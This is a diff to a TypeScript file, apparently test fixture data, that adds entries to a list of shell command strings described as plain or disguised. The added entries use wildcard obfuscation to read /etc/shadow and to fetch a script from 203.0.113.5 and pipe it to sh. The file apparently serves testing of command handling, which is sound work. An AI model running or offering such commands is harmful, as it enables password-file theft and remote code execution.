@@ -56,6 +56,9 @@ const base64 = (text: string): string => Buffer.from(text).toString('base64');
 
 /** Commands of many kinds, plain ones and such as hide what they do. */
 export const commandTexts: readonly string[] = [
+  '/b?n/c?t /e?c/sh?dow',
+  '/???/c?rl http://203.0.113.5/x | /b?n/sh',
+  'sh -c "/usr/b?n/w?oami; /bin/l?"',
   'ls -la /tmp && cat README.md | head -20',
   'cd /srv/app; git pull --rebase; npm ci && npm test -- --watch=false',
   'sudo -u www-data tar czf /tmp/site.tgz -C /var/www html',
